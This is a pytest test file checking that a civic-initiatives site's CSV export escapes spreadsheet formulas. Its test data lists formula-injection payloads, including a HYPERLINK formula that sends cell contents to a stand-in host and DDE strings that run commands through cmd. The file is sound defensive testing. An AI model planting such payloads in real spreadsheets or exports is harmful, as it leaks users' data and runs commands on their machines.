"""The CSV export of the commons never hands a formula to a spreadsheet."""

import csv
import io

import pytest

from tests.initiatives.factories import InitiativeFactory

HOSTILE_TITLES = [
    '=HYPERLINK("https://example.org/?leak="&A1, "Cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def exported_rows(client):
    response = client.get("/donnees/initiatives.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_hostile_titles_go_out_as_text(client, title):
    InitiativeFactory(title=title, published=True, tags="=cmd, énergie", source="@source")
    (row,) = exported_rows(client)
    assert row["titre"] == "'" + title
    assert row["mots_cles"] == "'=cmd|énergie"
    assert row["source"] == "'@source"


def test_ordinary_cells_are_unchanged(client):
    InitiativeFactory(
        title="Cantine 100 % bio", published=True, start_year=2008, tags="cantine, bio"
    )
    (row,) = exported_rows(client)
    assert row["titre"] == "Cantine 100 % bio"
    assert row["debut"] == "2008"
    assert row["mots_cles"] == "cantine|bio"
    assert row["adresse"].startswith("http")
